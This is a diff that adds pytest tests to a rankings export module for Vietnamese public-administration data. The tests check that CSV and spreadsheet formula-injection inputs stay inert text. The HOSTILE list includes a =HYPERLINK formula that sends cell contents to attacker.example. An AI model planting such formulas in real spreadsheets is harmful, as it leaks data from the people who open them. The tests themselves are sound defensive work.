@@ -288,6 +288,83 @@ def test_the_rankings_csv_writes_dates_dd_mm_yyyy_and_scores_as_published() -> N
     assert record["Chỉ số"] == "PAR_UNIT"
 
 
+# Text is never a formula ---------------------------------------------------------------
+
+#: What a signer could put in a decision number, a band or a name: each a formula if evaluated.
+HOSTILE = (
+    '=HYPERLINK("http://attacker.example/?d="&D6,"Xem")',
+    "=1+2",
+    "+1+2",
+    "-1+2",
+    "@SUM(A1:A9)",
+    "\t=1+2",
+    "\r=1+2",
+)
+
+
+def hostile_rankings(text: str) -> list[dict[str, Any]]:
+    return [dict(RANKINGS[0], decision=text, band=text, unit_name=text), *RANKINGS[1:]]
+
+
+def hostile_compilation(text: str) -> list[dict[str, Any]]:
+    return [dict(COMPILATION[0], decision=text, unit_name=text, officer_name=text), *COMPILATION[1:]]
+
+
+def cells(data: bytes, text: str) -> list[Any]:
+    """Every cell of the workbook whose value is `text`."""
+    sheet = workbook(data)
+    return [cell for row in sheet.iter_rows() for cell in row if cell.value == text]
+
+
+# XML reads a carriage return back as a line feed: the workbook's check leaves that one out.
+@pytest.mark.parametrize("text", [text for text in HOSTILE if "\r" not in text])
+def test_hostile_text_is_a_string_cell_in_every_workbook_never_a_formula(text: str) -> None:
+    rankings = exports.rankings(hostile_rankings(text), "PAR_UNIT", 2023, SOURCE, "xlsx", index_name=text)
+    compilation = exports.compilation(hostile_compilation(text), 2024, SOURCE, "xlsx")
+
+    found = cells(rankings, text)
+    assert len(found) == 4  # the index's name in the title block, the unit's name, the band, the decision
+    assert {cell.data_type for cell in found} == {"s"}
+    found = cells(compilation, text)
+    assert len(found) == 3  # the unit's name, the head's name, the decision
+    assert {cell.data_type for cell in found} == {"s"}
+    for data in (rankings, compilation):
+        assert not [cell for row in workbook(data).iter_rows() for cell in row if cell.data_type == "f"]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_hostile_text_is_escaped_with_a_quote_in_every_csv(text: str) -> None:
+    rankings = exports.rankings(hostile_rankings(text), "PAR_UNIT", 2023, SOURCE, "csv")
+    compilation = exports.compilation(hostile_compilation(text), 2024, SOURCE, "csv")
+
+    heading, first, *_ = csv.reader(io.StringIO(rankings.decode("utf-8-sig")))
+    record = dict(zip(heading, first, strict=True))
+    assert record["Quyết định công bố"] == record["Xếp loại chỉ số"] == record["Tên đơn vị"] == "'" + text
+    heading, first, *_ = csv.reader(io.StringIO(compilation.decode("utf-8-sig")))
+    record = dict(zip(heading, first, strict=True))
+    assert record["Quyết định của UBND tỉnh"] == record["Tên đơn vị"] == record["Người đứng đầu"] == "'" + text
+
+
+def test_numbers_the_export_writes_stay_numbers_even_when_negative() -> None:
+    rows = [dict(RANKINGS[0], score="-1.50", corrections=-1), *RANKINGS[1:]]
+
+    heading, first, *_ = csv.reader(
+        io.StringIO(exports.rankings(rows, "PAR_UNIT", 2023, SOURCE, "csv").decode("utf-8-sig"))
+    )
+    record = dict(zip(heading, first, strict=True))
+    assert (record["Điểm"], record["Số lần đính chính"]) == ("-1.50", "-1")
+    sheet = workbook(exports.rankings(rows, "PAR_UNIT", 2023, SOURCE, "xlsx"))
+    top = header_index(rows_of(sheet))
+    heading_cells = rows_of(sheet)[top]
+    score = sheet.cell(top + 2, heading_cells.index("Điểm") + 1)
+    assert (score.value, score.data_type) == (pytest.approx(-1.5), "n")
+
+
+def test_text_that_only_contains_a_formula_character_is_left_as_it_is() -> None:
+    assert exports.csv_text("Quyết định số 2611/QĐ-UBND = ban hành") == "Quyết định số 2611/QĐ-UBND = ban hành"
+    assert exports.csv_text("") == ""
+
+
 # Deterministic bytes ---------------------------------------------------------------------
 
 
